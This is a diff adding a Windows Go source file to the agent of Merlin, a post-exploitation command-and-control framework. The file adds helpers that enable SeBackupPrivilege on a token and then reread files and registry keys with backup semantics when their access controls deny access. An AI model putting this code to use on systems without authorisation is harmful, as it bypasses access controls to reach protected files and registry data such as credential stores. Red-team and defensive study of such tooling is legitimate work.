@@ -0,0 +1,131 @@
+//go:build windows
+// +build windows
+
+// Merlin is a post-exploitation command and control framework.
+// This file is part of Merlin.
+// Copyright (C) 2022  Russel Van Tuyl
+
+// Merlin is free software: you can redistribute it and/or modify
+// it under the terms of the GNU General Public License as published by
+// the Free Software Foundation, either version 3 of the License, or
+// any later version.
+
+// Merlin is distributed in the hope that it will be useful,
+// but WITHOUT ANY WARRANTY; without even the implied warranty of
+// MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+// GNU General Public License for more details.
+
+// You should have received a copy of the GNU General Public License
+// along with Merlin.  If not, see <http://www.gnu.org/licenses/>.
+
+package commands
+
+import (
+	// Standard
+	"fmt"
+	"io"
+	"os"
+
+	// X Packages
+	"golang.org/x/sys/windows"
+	"golang.org/x/sys/windows/registry"
+
+	// Internal
+	"github.com/Ne0nd0g/merlin-agent/cli"
+	"github.com/Ne0nd0g/merlin-agent/os/windows/pkg/tokens"
+)
+
+// REG_OPTION_BACKUP_RESTORE opens a registry key with the access required to back it up regardless of its DACL
+const REG_OPTION_BACKUP_RESTORE = 0x00000004
+
+// readFile reads the file at path. When the DACL denies access and the token holds SeBackupPrivilege, the file is read
+// again with backup semantics
+func readFile(path string) ([]byte, error) {
+	data, err := os.ReadFile(path) // #nosec G304 Users can include any file they want
+	if err == nil || !os.IsPermission(err) {
+		return data, err
+	}
+	restore, e := backupPrivilege()
+	if e != nil {
+		return nil, err
+	}
+	defer restore()
+
+	handle, e := windows.CreateFile(
+		windows.StringToUTF16Ptr(path),
+		windows.GENERIC_READ,
+		windows.FILE_SHARE_READ|windows.FILE_SHARE_WRITE|windows.FILE_SHARE_DELETE,
+		nil,
+		windows.OPEN_EXISTING,
+		windows.FILE_FLAG_BACKUP_SEMANTICS,
+		0,
+	)
+	if e != nil {
+		return nil, fmt.Errorf("there was an error opening %s with backup semantics: %s", path, e)
+	}
+	f := os.NewFile(uintptr(handle), path)
+	defer f.Close()
+	if cli.Enabled {
+		cli.Message(cli.NOTE, fmt.Sprintf("Reading %s with backup semantics", path))
+	}
+	return io.ReadAll(f)
+}
+
+// openKey opens a registry key. When the DACL denies access and the token holds SeBackupPrivilege, the key is opened
+// again with REG_OPTION_BACKUP_RESTORE, which ignores the requested access
+func openKey(root registry.Key, path string, access uint32) (registry.Key, error) {
+	key, err := registry.OpenKey(root, path, access)
+	if err == nil || !os.IsPermission(err) {
+		return key, err
+	}
+	restore, e := backupPrivilege()
+	if e != nil {
+		return key, err
+	}
+	defer restore()
+
+	var handle windows.Handle
+	e = windows.RegOpenKeyEx(windows.Handle(root), windows.StringToUTF16Ptr(path), REG_OPTION_BACKUP_RESTORE, access, &handle)
+	if e != nil {
+		return key, fmt.Errorf("there was an error opening %s with backup semantics: %s", path, e)
+	}
+	if cli.Enabled {
+		cli.Message(cli.NOTE, fmt.Sprintf("Opened registry key %s with backup semantics", path))
+	}
+	return registry.Key(handle), nil
+}
+
+// backupPrivilege enables SeBackupPrivilege in the token the calling thread uses, the impersonation token if there is
+// one, else the process token. The returned function disables the privilege again if it was disabled to begin with.
+// An error is returned if the token does not hold the privilege
+func backupPrivilege() (restore func(), err error) {
+	const name = "SeBackupPrivilege"
+	var token windows.Token
+	err = windows.OpenThreadToken(windows.CurrentThread(), windows.TOKEN_ADJUST_PRIVILEGES|windows.TOKEN_QUERY, true, &token)
+	if err == windows.ERROR_NO_TOKEN {
+		err = windows.OpenProcessToken(windows.CurrentProcess(), windows.TOKEN_ADJUST_PRIVILEGES|windows.TOKEN_QUERY, &token)
+	}
+	if err != nil {
+		return nil, fmt.Errorf("there was an error opening the access token: %s", err)
+	}
+	attributes, held, err := tokens.PrivilegeState(token, name)
+	if err == nil && !held {
+		err = fmt.Errorf("the access token does not hold %s", name)
+	}
+	if err != nil {
+		_ = token.Close()
+		return nil, err
+	}
+	if attributes&windows.SE_PRIVILEGE_ENABLED != 0 {
+		_ = token.Close()
+		return func() {}, nil
+	}
+	if err = tokens.AdjustPrivilege(token, name, true); err != nil {
+		_ = token.Close()
+		return nil, err
+	}
+	return func() {
+		_ = tokens.AdjustPrivilege(token, name, false)
+		_ = token.Close()
+	}, nil
+}